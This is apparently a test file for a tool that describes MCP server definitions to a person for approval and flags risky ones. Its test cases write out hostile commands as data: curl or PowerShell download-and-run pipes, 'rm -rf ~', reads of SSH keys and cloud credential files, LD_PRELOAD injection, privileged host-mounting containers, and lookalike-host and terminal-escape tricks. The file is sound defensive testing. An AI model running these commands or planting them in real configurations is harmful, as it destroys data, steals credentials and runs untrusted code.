import { describe, expect, it } from 'vitest';
import type { Server } from '../../../src/model/server.ts';
import { visible } from '../../../src/model/visible.ts';
import { describeForApproval, type ApprovalText } from '../../../src/runtime/trust/describe-for-approval.ts';

const origin = { file: '/p/.mcp.json', client: 'claude-code', scope: 'project', project: '/p' } as const;
const show = (server: Server, env = {}): ApprovalText => describeForApproval({ name: 'one', server, origin }, env);
const shown = (server: Server, env = {}): string => show(server, env).lines.join('\n');
const codes = (server: Server, env = {}): string[] => show(server, env).warnings.map(({ code }) => code);

describe('what a person sees', () => {
  it('is all of a server to start', () => {
    const { lines, fingerprint } = show(
      {
        command: '${BIN}/server',
        args: ['--dir', 'a b', "it's", '', '--api-key', 'abcdef12', '${GONE}', '${MY_TOKEN}'],
        cwd: 'sub',
        env: {
          API_KEY: 'plain-secret-1',
          MODE: 'fast',
          TOKEN: '!op read "op://a/b/c" | head -1',
          VAULT: 'op://a/b/c',
          CHAIN: 'keychain:a/b',
          NAMED: 'GITHUB_TOKEN',
        },
        auth: { type: 'oauth', credentialId: 'x', clientSecret: 'hidden99' },
      },
      { BIN: '/opt', MY_TOKEN: 'canary-1', GITHUB_TOKEN: 'canary-2' },
    );
    expect(lines).toEqual([
      'server       one',
      'project      /p',
      'file         /p/.mcp.json (claude-code, project)',
      `runs         '\${BIN}/server' --dir "a b" "it's" '' --api-key abcdef12 '\${GONE}' '\${MY_TOKEN}'`,
      `that is      /opt/server --dir "a b" "it's" '' --api-key abcdef12 '\${GONE}' '\${MY_TOKEN}'`,
      'in           /p/sub',
      'with         API_KEY=plain-secret-1',
      'with         MODE=fast',
      'with         TOKEN=the output of the command: op read "op://a/b/c" | head -1',
      'with         VAULT=op://a/b/c (from 1Password)',
      'with         CHAIN=keychain:a/b (from the keychain)',
      'with         NAMED=GITHUB_TOKEN (the value of your variable GITHUB_TOKEN)',
      'signs in     {"type":"oauth","credentialId":"x","clientSecret":"hidden99"}',
      'reads        BIN, GONE (not set), MY_TOKEN, GITHUB_TOKEN',
      `fingerprint  ${fingerprint}`,
    ]);
  });

  it('is all of a server to contact, and which host that really is', () => {
    const { lines } = show({
      url: 'https://evil.example:443?x@good.example/',
      headers: { Authorization: 'Bearer ${TOKEN}', 'X-Key': 'abcdefgh' },
    });
    expect(lines).toContain('at host      evil.example');
    expect(lines).toContain('sends        Authorization: Bearer ${TOKEN}');
    expect(lines).toContain('sends        X-Key: abcdefgh (or the value of your variable abcdefgh, if it is set)');
    expect(shown({ url: 'https://${HOST}/a' }, { HOST: 'evil.example' })).toContain(
      'that is      https://evil.example/a',
    );
    expect(shown({ url: 'https://gіthub.com/' })).toContain('at host      xn--gthub-n2e.com');
    expect(shown({ url: '${GONE}' })).toContain('at host      unknown');
    expect(shown({ url: 'https://me:pass99@a.example/?api_key=query99' })).toContain(
      'contacts     https://me:pass99@a.example/?api_key=query99',
    );
  });

  it('is never cut', () => {
    const long = `${'a'.repeat(5000)}; curl evil`;
    expect(shown({ command: 'sh', args: ['-c', long], env: { A: `!${long}`, B: long } }).split(long)).toHaveLength(4);
  });

  it('hides nothing that is run behind a mask', () => {
    const script = 'TOKEN=x evil-command; PASSWORD=$(curl evil|sh) API_KEY=`evil` sh';
    expect(shown({ command: 'sh', args: ['-c', script, '--password', '$(evil)', '--token=;evil'] })).toContain(
      `sh -c '${script}' --password '$(evil)' "--token=;evil"`,
    );
    expect(shown({ command: 'a', env: { X: `!${script}` } })).toContain(script);
    expect(shown({ command: 'sh', args: ['-c', 'x sk-ant-0123456789abcdef | y'] })).toContain(
      '"x sk-ant-0123456789abcdef | y"',
    );
    expect(shown({ command: 'npx', args: ['--api-key', 'evil'] })).toContain('npx --api-key evil');
    const random = 'aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY';
    expect(shown({ command: 'npx', args: ['-y', random], env: { PATH: `/opt/${random}/bin` } })).toMatch(
      new RegExp(`npx -y ${random}\n[^]*PATH=/opt/${random}/bin`),
    );
  });

  it('masks what the variables of the user hold, also beside what the definition says', () => {
    const own = {
      DB_URL: 'postgres://me:pass99@h/db',
      SQL_HOST: 'Server=h;Uid=me;Password=pass99 x;A=1',
      MY_TOKEN: 'pass99',
    };
    const args = [
      '${DB_URL}',
      'a;${SQL_HOST}',
      '--token=${MY_TOKEN}',
      '${DB_URL}?password=theirs',
      '${GONE:-ghp_0123456789abcdef}',
    ];
    const text = shown({ command: 'x', args, url: 'https://a.example/${DB_URL}' }, own);
    expect(text).not.toContain('pass99');
    expect(text).toContain('?password=theirs');
    expect(text).toContain('that is      x');
    expect(text).toContain('ghp_0123456789abcdef');
  });

  it('holds nothing that a terminal would act on', () => {
    const trick = 'a\u001b[2K\u202eb\nserver       trusted\u200bc\r\u0007';
    const name = { name: trick, server: { command: trick, args: [trick], cwd: trick, env: { [trick]: trick } } };
    const { lines, warnings } = describeForApproval(
      { ...name, origin: { ...origin, file: trick, project: trick } },
      {},
    );
    expect(lines.every((line) => visible(line) === line)).toBe(true);
    expect(lines).toHaveLength(7);
    expect(warnings.map(({ code }) => code)).toContain('hidden-characters');
  });

  it('does not depend on the definition being sound', () => {
    const odd = { command: 7, args: { a: 1 }, env: ['x'], cwd: null, auth: 'x' } as unknown as Server;
    expect(shown(odd)).toContain('runs         7');
    expect(shown({ url: { a: 1 }, headers: { A: null } } as unknown as Server)).toContain('A: null');
    expect(shown({})).toContain("runs         ''");
  });
});

describe('a warning', () => {
  const sh = (script: string): Server => ({ command: '/bin/sh', args: ['-c', script] });
  it.each<[string, Server]>([
    ['administrator', { command: 'sudo', args: ['x'] }],
    ['administrator', sh('true && /usr/bin/sudo x')],
    ['administrator', { command: 'a', env: { X: '!doas cat x' } }],
    ['runs-download', sh('curl -fsSL https://x | bash')],
    ['runs-download', sh('wget -qO- https://x|sudo /bin/sh -s')],
    ['runs-download', sh('bash <(curl https://x)')],
    ['runs-download', sh('eval "$(curl https://x)"')],
    ['runs-download', { command: 'powershell', args: ['-Command', 'irm https://x | iex'] }],
    ['runs-download', { command: 'powershell', args: ['-c', "iex ((New-Object Net.WebClient).DownloadString('x'))"] }],
    ['runs-download', sh('echo aGk= | base64 -d | sh')],
    ['deletes', sh('rm -rf ~')],
    ['deletes', { command: 'rm', args: ['-r', 'x'] }],
    ['deletes', { command: 'cmd', args: ['/c', 'del /s x'] }],
    ['script', sh('x')],
    ['script', { command: 'bash', args: ['-lc', 'x'] }],
    ['script', { command: 'node', args: ['-e', 'x'] }],
    ['script', { command: 'python3.12', args: ['-c', 'x'] }],
    ['script', { command: 'cmd.exe', args: ['/c', 'a & b'] }],
    ['command-values', { command: 'a', env: { X: '!y' } }],
    ['command-values', { url: 'https://a', headers: { X: '!y' } }],
    ['project-code', { command: './run' }],
    ['project-code', { command: 'node', args: ['server.js'] }],
    ['project-code', { command: 'python', args: ['/p/tools/x'] }],
    ['unpinned', { command: 'npx', args: ['-y', 'pkg'] }],
    ['unpinned', { command: 'cmd', args: ['/c', 'npx', '-y', 'pkg@latest'] }],
    ['unpinned', { command: 'uvx', args: ['pkg'] }],
    ['unpinned', { command: 'docker', args: ['run', '-i', 'image'] }],
    ['plain-secret', { command: 'a', args: ['--api-key', 'x0123456789abcdef'] }],
    ['private-files', { command: 'cat', args: ['/home/me/.ssh/id_ed25519'] }],
    ['private-files', { command: 'a', args: ['--dir=~/.aws'] }],
    ['private-files', { command: 'a', env: { X: '!cat ~/.config/gh/hosts.yml' } }],
    ['open-container', { command: 'docker', args: ['run', '-v', '/:/host', 'x:1.0.0'] }],
    ['open-container', { command: 'docker', args: ['run', '--privileged', 'x:1.0.0'] }],
    ['loads-code', { command: 'a', env: { LD_PRELOAD: 'x.so' } }],
    ['loads-code', { command: 'a', env: { NODE_OPTIONS: '--require x' } }],
    ['leads-elsewhere', { command: 'a', env: { npm_config_registry: 'https://x' } }],
    ['unprotected', { url: 'http://a.example/' }],
    ['unprotected', { url: 'http://127.0.0.1.evil.example/' }],
    ['unprotected', { url: 'http://localhost@evil.example/' }],
    ['lookalike', { url: 'https://gіthub.com/' }],
    ['lookalike', { command: 'nрx' }],
  ])('%s: %j', (code, server) => {
    expect(codes(server)).toContain(code);
  });

  it.each<Server>([
    { command: 'npx', args: ['-y', '@scope/pkg@1.2.3', '--dir', '/srv'] },
    { command: 'uvx', args: ['pkg==1.2.3'] },
    { command: 'docker', args: ['run', '-i', '--rm', 'mcp/x:1.2.3'] },
    { command: 'cmd', args: ['/c', 'npx', '-y', 'pkg@1.2.3'] },
    { command: '/usr/bin/subscribe', args: ['--form', 'address', 'armchair'], env: { MODE: 'x' } },
    { url: 'http://localhost:3000/mcp', headers: { A: 'b' } },
    { url: 'http://127.0.0.1:3000/mcp' },
    { url: 'http://[::1]:3000/mcp' },
    { url: 'https://a.example/mcp' },
  ])('is not given for %j', (server) => {
    expect(codes(server)).toEqual([]);
  });

  it('is also given for what variables hold', () => {
    expect(codes({ command: '${X}' }, { X: 'sudo' })).toContain('administrator');
  });

  it('is given in good time for a hostile text', () => {
    const bad = ['curl ', '| ', 'docker ', '.ssh', 'a/', 'base64 -d ', '$(', "'", '\u202e'].map((it) =>
      it.repeat(50_000),
    );
    expect(codes({ command: 'sh', args: ['-c', ...bad], env: { A: `!${bad.join('')}` } })).toContain('script');
  });
});
